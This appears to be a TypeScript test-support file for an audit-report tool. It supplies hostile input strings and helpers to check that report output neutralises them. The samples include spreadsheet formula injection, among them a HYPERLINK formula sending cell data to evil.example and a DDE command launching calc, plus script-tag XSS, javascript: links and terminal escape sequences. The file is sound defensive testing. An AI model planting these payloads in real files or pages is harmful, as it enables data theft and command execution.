import type { AuditResult } from '../../src/model/report.ts';
import { givenLawRuns } from '../support/law-runs.ts';

/**
 * Of long texts, which are most of the time of the tests that take them: 16 by default, four times as long as any limit of a
 * line; 64 where many cases are asked for, as in `.ci/run`.
 */
const kilobytes = givenLawRuns === undefined ? 16 : 64;
const units = kilobytes * 1024;

/** Names as an attacker would write them. */
export const hostileTexts: readonly (readonly [what: string, text: string])[] = [
  ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
  ['a formula behind a space', ' =1+1'],
  ['a formula behind a no-break space', '\u00a0=1+1'],
  ['a formula behind a byte order mark', '\ufeff=1+1'],
  ['a formula behind a zero-width space', '\u200b=1+1'],
  ['a formula behind a bidirectional override', '\u202e=1+1'],
  ['a formula behind a Hangul filler', '\u3164=1+1'],
  ['a formula behind a blank Braille pattern', '\u2800=1+1'],
  ['a formula behind a combining mark', '\u0301=1+1'],
  ['a plus', '+1'],
  ['a minus', '-2+3'],
  ['a minus sign', '\u22122'],
  ['an at sign', '@SUM(A1)'],
  ['a pipe', "|cmd /C calc'!A0"],
  ['a percent sign', '%0A'],
  ['a tab', '\t=1'],
  ['a carriage return', '\r=1'],
  ['a line feed', '\n=1'],
  ['a NUL', '\0=1'],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus', '＋1'],
  ['a full-width minus', '－1'],
  ['a full-width at sign', '＠SUM(A1)'],
  ['a small equals sign', '﹦1+1'],
  ['a DDE command', '=cmd|"/C calc"!A0'],
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['Markdown', '[click](javascript:alert(1)) ![x](https://evil.example/x) `code`'],
  ['ANSI colours and a cleared screen', '\u001b[31mred\u001b[0m\u001b[2J'],
  ['a terminal title', '\u001b]0;owned\u0007'],
  ['a C1 control sequence', '\u009b31mred'],
  ['a terminal hyperlink', '\u001b]8;;https://evil.example\u001b\\text\u001b]8;;\u001b\\'],
  ['a forged line', 'a\r\nFindings    none\u2028Findings    none\u2029\u0085'],
  ['quotes and commas', '","",a"b,"c'],
  ['a bidirectional override', 'abc\u202etxt.exe\u2066x\u2069'],
  ['zero-width characters and tags', 'a\u200bd\u200dm\u2060in\u{e0041}\u{e0042}'],
  ['lone surrogates', 'a\ud800b\udc00'],
  ['stacked marks', `a${'\u0301'.repeat(500)}`],
  [`${kilobytes} KB in one word`, 'x'.repeat(units)],
  [`${kilobytes} KB of wide characters`, '宽'.repeat(units / 2)],
  [`${kilobytes} KB of marks`, '\u0301'.repeat(units / 2)],
  [`${kilobytes} KB of words`, 'word '.repeat(Math.floor(units / 5))],
  [`${kilobytes} KB of spaces`, ' '.repeat(units)],
  [`${kilobytes} KB of line feeds`, '\n'.repeat(units)],
  ['nothing', ''],
];

/** Fields whose values the model fixes; all others hold text from outside. */
const fixedFields = new Set([
  'environment',
  'is',
  'lifetime',
  'binding',
  'status',
  'duration',
  'class',
  'party',
  'mechanism',
  'external',
  'severity',
  'confidence',
  'owasp',
  'facets',
  'gives',
  'provider',
  'providers',
  'sensitivity',
  'standings',
  'collectedAt',
  'settings',
  'fingerprint',
  'role',
  'foundBy',
  'effect',
  'loosenedUnasked',
  'sha256',
]);

/** Times as well, for documents whose schema is to hold. */
export const timeFields: readonly string[] = [
  'createdAt',
  'expiresAt',
  'lastUsedAt',
  'until',
  'observedSince',
  'created',
  'expires',
  'lastReviewed',
];

/** Every string changed, but for values of the keys that are fixed. */
export const rewriting = (change: (text: string) => string, fixed: ReadonlySet<string>) => {
  const rewrite = (value: unknown): unknown => {
    if (typeof value === 'string') return change(value);
    if (Array.isArray(value)) return value.map(rewrite);
    if (typeof value === 'object' && value !== null && Object.getPrototypeOf(value) === Object.prototype) {
      return Object.fromEntries(
        Object.entries(value).map(([key, item]) => [key, fixed.has(key) ? item : rewrite(item)]),
      );
    }
    return value;
  };
  return rewrite;
};

/** The same result with every text from outside changed in the same way, ids included, so that they still match. */
export const withTexts = (
  result: AuditResult,
  change: (text: string) => string,
  alsoFixed: readonly string[] = [],
): AuditResult => {
  const { reach } = result;
  const scopePrefix = 'scope:';
  const fixed = new Set([...fixedFields, ...alsoFixed]);
  const rewrite = rewriting(
    (text) =>
      text.startsWith(scopePrefix) ? scopePrefix + change(text.slice(scopePrefix.length)) : change(text),
    fixed,
  );
  const changed = rewrite({ ...result, reach: undefined }) as AuditResult;
  return {
    ...changed,
    reach: {
      ...reach,
      radius: (index) => rewrite(reach.radius(index)) as ReturnType<typeof reach.radius>,
      path: (index) => rewrite(reach.path(index)) as ReturnType<typeof reach.path>,
      pathToControl: (index, scope) =>
        rewrite(reach.pathToControl(index, scope)) as ReturnType<typeof reach.path>,
      pathsToAny: (targets) => {
        const pathOf = reach.pathsToAny(targets);
        return (index) => rewrite(pathOf(index)) as ReturnType<typeof pathOf>;
      },
    },
  };
};

/** Code points that a reader cannot see or that move other text: control, zero-width, bidirectional, separators, tags. */
const unseenRanges: readonly (readonly [first: number, last: number])[] = [
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xad, 0xad],
  [0x061c, 0x061c],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2060, 0x206f],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xe0000, 0xe0fff],
];

const unseen = new RegExp(
  `[${unseenRanges.map(([first, last]) => `\\u{${first.toString(16)}}-\\u{${last.toString(16)}}`).join('')}]`,
  'gu',
);

/** Which of them a text holds, by number; lone surrogates among them. */
export const unseenIn = (text: string): readonly string[] => [
  ...new Set([...text.matchAll(unseen)].map(([character]) => character.codePointAt(0)!.toString(16))),
];
